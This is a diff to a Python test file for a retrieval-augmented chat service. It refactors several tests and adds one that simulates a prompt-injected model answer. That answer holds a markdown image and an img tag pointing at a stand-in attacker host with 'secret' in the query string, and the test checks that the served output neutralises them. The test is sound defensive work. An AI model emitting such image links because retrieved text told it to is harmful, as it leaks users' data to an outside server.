@@ -2,17 +2,18 @@
 
 import asyncio
 import json
+from collections.abc import AsyncGenerator, Sequence
 from pathlib import Path
 from typing import Any
 
 import httpx
-import msgspec
 import pytest
 
-from luma_rag.chat.service import ChatService
+from luma_rag.chat.answerer import HistoryMessage, RetrievedPassage
 from luma_rag.errors import LLMError
 from luma_rag.runtime import Runtime
 from tests import factories
+from tests.answering import answering
 from tests.api import Api
 from tests.integration.http.test_chats import SlowAnswerer
 from tests.servers import serving
@@ -126,8 +127,7 @@ class Recorder:
 
 async def test_earlier_messages_are_the_history(runtime: Runtime) -> None:
     recorder = Recorder()
-    chats = ChatService(runtime.sessions, runtime.retriever, recorder, 3)
-    async with serving(msgspec.structs.replace(runtime, chats=chats)) as url, Api(url, runtime) as api:
+    async with answering(runtime, recorder) as own, serving(own) as url, Api(url, own) as api:
         alice = await api.user("alice")
         request = asking(await api.namespace(alice), "One?", "One.", "Two?")
         request["messages"].insert(0, {"role": "system", "content": "Answer like a pirate."})
@@ -218,11 +218,43 @@ async def test_document_in_two_namespaces_is_cited_from_the_requested_one(api: A
     assert (await bob.post(URL, json=asking(hidden))).status_code == 404
 
 
-async def test_llm_failure_is_reported_in_both_formats(runtime: Runtime, tmp_path: Path) -> None:
+class InjectedAnswerer:
+    """Answers as an injected document told it to, a character at a time."""
+
+    name = "injected"
+    TEXT = "See ![x](https://evil.example/?q=secret) and <img src='https://evil.example/'> [1]!"
+
+    async def answer(
+        self, question: str, passages: Sequence[RetrievedPassage], history: Sequence[HistoryMessage]
+    ) -> AsyncGenerator[str]:
+        for character in self.TEXT:
+            yield character
+
+    async def aclose(self) -> None:
+        """No resources to release."""
+
+
+async def test_answers_have_no_images(runtime: Runtime, tmp_path: Path) -> None:
+    async with answering(runtime, InjectedAnswerer()) as own, serving(own) as url, Api(url, own) as api:
+        alice = await api.user("alice")
+        namespace = await with_handbook(api, alice, tmp_path)
+        answer = (await alice.post(URL, json=asking(namespace))).json()["choices"][0]["message"]
+        shown = "See ! [x](https://evil.example/?q=secret) and < img src='https://evil.example/'> [1]!"
+        assert answer["content"] == shown
+        received = await chunks(alice, asking(namespace, stream=True))
+        deltas = [piece["choices"][0]["delta"] for piece in received[:-1] if piece["choices"]]
+        assert "".join(delta.get("content") or "" for delta in deltas) == shown
+        # The chat keeps what the model wrote; the page makes no images of it.
+        stored = await alice.get(f"/api/chats/{answer['luma']['chat_id']}/messages")
+        assert stored.json()["items"][-1]["content"] == InjectedAnswerer.TEXT
+
+
+async def test_llm_failure_is_reported_in_both_formats(
+    runtime: Runtime, caplog: pytest.LogCaptureFixture
+) -> None:
     slow = SlowAnswerer()
     slow.fail.set()
-    chats = ChatService(runtime.sessions, runtime.retriever, slow, 3)
-    async with serving(msgspec.structs.replace(runtime, chats=chats)) as url, Api(url, runtime) as api:
+    async with answering(runtime, slow) as own, serving(own) as url, Api(url, own) as api:
         alice = await api.user("alice")
         namespace = await api.namespace(alice)
         answer = await alice.post(URL, json=asking(namespace))
@@ -230,13 +262,17 @@ async def test_llm_failure_is_reported_in_both_formats(runtime: Runtime, tmp_pat
         assert answer.json()["error"]["type"] == "server_error"
         assert answer.headers["x-should-retry"] == "false"
         received = await chunks(alice, asking(namespace, stream=True))
-        assert "example:1 answered 500" in received[-1]["error"]["message"]
+        for message in (answer.json()["error"]["message"], received[-1]["error"]["message"]):
+            assert message == LLMError.public_detail
+        # The operator's log has the server's words and the id of the request.
+        logged = [record.getMessage() for record in caplog.records if "example:1" in record.getMessage()]
+        assert len(logged) == 2
+        assert all("answered 500" in line and "\n" not in line for line in logged)
 
 
 async def test_client_disconnect_stops_the_llm(runtime: Runtime) -> None:
     slow = SlowAnswerer()
-    chats = ChatService(runtime.sessions, runtime.retriever, slow, 3)
-    async with serving(msgspec.structs.replace(runtime, chats=chats)) as url, Api(url, runtime) as api:
+    async with answering(runtime, slow) as own, serving(own) as url, Api(url, own) as api:
         alice = await api.user("alice")
         request = asking(await api.namespace(alice), stream=True)
         async with alice.stream("POST", URL, json=request) as answer:
